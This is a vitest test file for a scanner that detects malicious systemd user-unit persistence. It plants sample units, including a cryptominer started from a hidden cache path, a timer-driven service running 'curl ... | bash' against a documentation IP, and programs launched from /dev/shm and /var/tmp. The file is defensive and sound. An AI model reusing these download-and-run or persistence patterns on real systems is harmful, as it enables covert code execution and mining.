/**
 * The user services check over planted trees: units in ~/.config/systemd/user enabled
 * through default.target.wants, started by a timer naming them in Unit=, a global unit
 * enabled in /etc/systemd/user, a drop-in in /root, lingering; exact rule ids,
 * severities and lines, the state and lingering in the message, `systemctl --user -M`
 * remediation, started programs recorded. Stock user units stay below medium; hostile
 * trees (link loops, junk, a huge unit) neither crash nor stall it.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import { userServicesCheck } from '../../src/checks/user-services.js';
import { servicesCheck } from '../../src/checks/services.js';
import { scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { findingRowKeys, mediumOrAbove, rowKeys, unfilledTemplates, type FindingRow } from '../helpers/findings.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { junkBytes, plantFiles, startedCollector, type PlantedFile } from '../helpers/planted-tree.js';

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(64)]);
const PASSWD = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'alice:x:1000:1000:Alice:/home/alice:/bin/bash',
  'bob:x:1001:1001:Bob:/home/bob:/bin/bash',
  '',
].join('\n');

const STOCK: Record<string, PlantedFile> = {
  'etc/passwd': PASSWD,
  'usr/lib/systemd/user/ssh-agent.service':
    '[Unit]\nDescription=OpenSSH Agent\nConditionPathExists=/etc/X11/Xsession.options\n\n[Service]\nExecStart=/usr/lib/openssh/agent-launch start\nExecStopPost=/usr/lib/openssh/agent-launch stop\n',
  'usr/lib/systemd/user/systemd-tmpfiles-clean.service':
    "[Unit]\nDescription=Cleanup of User's Temporary Files and Directories\n\n[Service]\nType=oneshot\nExecStart=systemd-tmpfiles --user --clean\n",
  'usr/lib/systemd/user/systemd-tmpfiles-clean.timer': '[Timer]\nOnStartupSec=5min\nOnUnitActiveSec=1d\n\n[Install]\nWantedBy=timers.target\n',
  'var/lib/dpkg/info/openssh-client.list': '/usr/lib/systemd/user/ssh-agent.service\n/usr/lib/openssh/agent-launch\n',
  'var/lib/dpkg/info/systemd.list': '/usr/lib/systemd/user/systemd-tmpfiles-clean.service\n/usr/lib/systemd/user/systemd-tmpfiles-clean.timer\n',
};
const STOCK_LINKS: [string, string][] = [['usr/lib/systemd/user/graphical-session-pre.target.wants/ssh-agent.service', '../ssh-agent.service']];

const INFECTED: Record<string, PlantedFile> = {
  'home/alice/.config/systemd/user/dbus-helper.service': [
    '[Unit]',
    'Description=D-Bus helper',
    '',
    '[Service]',
    'ExecStart=/home/alice/.cache/.x/kworker --donate-level 1 -o pool.example.net:3333',
    'Restart=always',
    '',
    '[Install]',
    'WantedBy=default.target',
    '',
  ].join('\n'),
  'home/alice/.cache/.x/kworker': ELF,
  'var/lib/systemd/linger/alice': '',
  'home/bob/.config/systemd/user/syncthing.service': '[Service]\nExecStart=/usr/bin/syncthing serve --no-browser\n[Install]\nWantedBy=default.target\n',
  'home/bob/.config/systemd/user/refresh.timer': '[Timer]\nOnCalendar=hourly\nUnit=cache-refresh.service\n[Install]\nWantedBy=timers.target\n',
  'home/bob/.config/systemd/user/cache-refresh.service': "[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -fsSL http://198.51.100.9/u.sh | bash'\n",
  // A timer that never elapses starts nothing: its service stays "not enabled".
  'home/bob/.config/systemd/user/idle.timer': '[Timer]\nUnit=idle-job.service\n[Install]\nWantedBy=timers.target\n',
  'home/bob/.config/systemd/user/idle-job.service': '[Service]\nExecStart=/usr/bin/true\n',
  'etc/systemd/user/pulse-helper.service': '[Service]\nExecStart=/dev/shm/.p/helper\n[Install]\nWantedBy=default.target\n',
  'root/.config/systemd/user/ssh-agent.service.d/override.conf': '[Service]\nExecStartPost=/var/tmp/.r/y\n',
};
const INFECTED_LINKS: [string, string][] = [
  ['home/alice/.config/systemd/user/default.target.wants/dbus-helper.service', '/home/alice/.config/systemd/user/dbus-helper.service'],
  ['home/bob/.config/systemd/user/default.target.wants/syncthing.service', '../syncthing.service'],
  ['home/bob/.config/systemd/user/timers.target.wants/refresh.timer', '../refresh.timer'],
  ['home/bob/.config/systemd/user/timers.target.wants/idle.timer', '../idle.timer'],
  ['etc/systemd/user/default.target.wants/pulse-helper.service', '../pulse-helper.service'],
];

const ALICE = '/home/alice/.config/systemd/user/dbus-helper.service';
const BOB = '/home/bob/.config/systemd/user';
const EXPECTED: FindingRow[] = [
  ['command.miner', 'high', ALICE, 5],
  ['command.started-from-hidden', 'high', ALICE, 5],
  ['user-service.enabled-home-unit', 'info', ALICE, undefined],
  ['user-service.enabled-home-unit', 'info', `${BOB}/syncthing.service`, undefined],
  ['user-service.enabled-home-unit', 'info', `${BOB}/refresh.timer`, undefined],
  ['user-service.enabled-home-unit', 'info', `${BOB}/idle.timer`, undefined],
  ['user-service.enabled-home-unit', 'info', `${BOB}/cache-refresh.service`, undefined],
  ['command.download-and-run', 'high', `${BOB}/cache-refresh.service`, 3],
  ['command.started-from-temp', 'high', '/etc/systemd/user/pulse-helper.service', 2],
  ['command.started-from-temp', 'high', '/root/.config/systemd/user/ssh-agent.service.d/override.conf', 2],
];

describe('user services check', () => {
  let scratch: string;
  let infected: string;
  let clean: string;
  let hostile: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-user-services-');
    infected = path.join(scratch, 'infected');
    clean = path.join(scratch, 'clean');
    hostile = path.join(scratch, 'hostile');
    await plantFiles(infected, { ...STOCK, ...INFECTED }, [...STOCK_LINKS, ...INFECTED_LINKS]);
    await plantFiles(clean, STOCK, STOCK_LINKS);
    const junk = junkBytes(300_000);
    await plantFiles(
      hostile,
      {
        'etc/passwd': `${PASSWD}${Array.from({ length: 3000 }, (_, i) => `u${i}:x:${2000 + i}:100::/home/u${i % 7}:/bin/sh`).join('\n')}\nweird:x:5:5::/home/[*?{a,b}]:/bin/sh\n`,
        'home/u1/.config/systemd/user/junk.service': junk,
        'home/u2/.config/systemd/user/long.service': `[Service]\nExecStart=/bin/sh -c "${'$('.repeat(30_000)}"\n${'Description=x \\\n'.repeat(50_000)}\n`,
        'home/[*?{a,b}]/.config/systemd/user/odd.service': '[Service]\nExecStart=/tmp/odd\n[Install]\nWantedBy=default.target\n',
      },
      [
        ['home/u3/.config/systemd/user/loop-a.service', 'loop-b.service'],
        ['home/u3/.config/systemd/user/loop-b.service', 'loop-a.service'],
        ['home/u4/.config/systemd/user/default.target.wants/gone.service', '/nowhere/gone.service'],
        ['home/u5/.config/systemd/user', '/home/u5'],
        ['home/[*?{a,b}]/.config/systemd/user/default.target.wants/odd.service', '../odd.service'],
      ],
    );
  });

  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('finds every planted user unit with its rule, severity and line', async () => {
    const result = await scanDirectory(infected, [userServicesCheck]);
    expect(result.errors).toEqual([]);
    expect(findingRowKeys(result.findings)).toEqual(rowKeys(EXPECTED));
    for (const f of result.findings) expect(f.category).toBe('persistence/systemd-user');
    expect(unfilledTemplates(result.findings)).toEqual([]);
  });

  it('says whose unit it is, how it is enabled and whether its owner lingers', async () => {
    const { findings } = await scanDirectory(infected, [userServicesCheck]);
    const message = (rule: string, p: string) => findings.find((f) => f.rule === rule && f.path === p)!.message;
    expect(message('command.miner', ALICE)).toContain(
      `(user unit dbus-helper.service of alice, enabled via /home/alice/.config/systemd/user/default.target.wants/dbus-helper.service; alice lingers: it starts at boot without a login)`,
    );
    expect(message('command.download-and-run', `${BOB}/cache-refresh.service`)).toContain(
      '(user unit cache-refresh.service of bob, started by the enabled refresh.timer; it starts when bob logs in)',
    );
    expect(message('command.started-from-temp', '/etc/systemd/user/pulse-helper.service')).toContain(
      '(user unit pulse-helper.service in a global user unit directory, enabled via /etc/systemd/user/default.target.wants/pulse-helper.service; alice lingers: it starts at boot without a login)',
    );
    expect(message('command.started-from-temp', '/root/.config/systemd/user/ssh-agent.service.d/override.conf')).toContain(
      // The packaged graphical-session-pre.target.wants link pulls ssh-agent.service in.
      'drop-in of user unit ssh-agent.service of root, which is enabled via /usr/lib/systemd/user/graphical-session-pre.target.wants/ssh-agent.service; it starts when root logs in',
    );
    // A timer without On*= settings never elapses: its service is not reported as started.
    expect(findings.some((f) => f.path === `${BOB}/idle-job.service`)).toBe(false);
  });

  it('gives systemctl --user, rm and loginctl remediation', async () => {
    const { findings } = await scanDirectory(infected, [userServicesCheck]);
    const fix = (rule: string, p: string) => findings.find((f) => f.rule === rule && f.path === p)!.remediation.split('\n');
    expect(fix('command.miner', ALICE).slice(0, 5)).toEqual([
      'systemctl --user -M alice@ disable --now dbus-helper.service',
      `rm -f ${ALICE} /home/alice/.config/systemd/user/default.target.wants/dbus-helper.service`,
      'systemctl --user -M alice@ daemon-reload',
      "loginctl disable-linger alice   # alice's manager starts at boot: keep only if intended",
      'rm -f /home/alice/.cache/.x/kworker   # the program it starts',
    ]);
    expect(fix('command.started-from-temp', '/etc/systemd/user/pulse-helper.service').slice(0, 3)).toEqual([
      'systemctl --global disable pulse-helper.service',
      'rm -f /etc/systemd/user/pulse-helper.service /etc/systemd/user/default.target.wants/pulse-helper.service',
      '# stop it in every running user manager: systemctl --user -M USER@ stop pulse-helper.service',
    ]);
    expect(fix('command.started-from-temp', '/root/.config/systemd/user/ssh-agent.service.d/override.conf')[0]).toBe(
      'rm -f /root/.config/systemd/user/ssh-agent.service.d/override.conf',
    );
  });

  it('records the programs user units start', async () => {
    const collector = startedCollector();
    await scanDirectory(infected, [userServicesCheck, collector.check]);
    expect(collector.started).toEqual(
      expect.arrayContaining([
        { path: '/home/alice/.cache/.x/kworker', startedBy: `${ALICE}:5` },
        { path: '/dev/shm/.p/helper', startedBy: '/etc/systemd/user/pulse-helper.service:2' },
        { path: '/usr/bin/syncthing', startedBy: `${BOB}/syncthing.service:2` },
        { path: '/usr/lib/openssh/agent-launch', startedBy: '/usr/lib/systemd/user/ssh-agent.service:6' },
      ]),
    );
  });

  it('finds nothing of medium severity or more in stock user units, and the system services check ignores user units', async () => {
    const result = await scanDirectory(clean, [userServicesCheck]);
    expect(result.errors).toEqual([]);
    expect(mediumOrAbove(result.findings)).toEqual([]);
    expect(result.filesExamined).toBe(3);
    expect((await scanDirectory(infected, [servicesCheck])).findings).toEqual([]);
  });

  it('reads hostile homes and units without crashing or stalling', async () => {
    const result = await scanHostile(hostile, [userServicesCheck], { maxOperations: 1_500 });
    expect(result.errors).toEqual([]);
    // A home whose path is full of glob characters is still read, literally.
    expect(result.findings.map((f) => [f.rule, f.path])).toContainEqual(['command.started-from-temp', '/home/[*?{a,b}]/.config/systemd/user/odd.service']);
  });
});
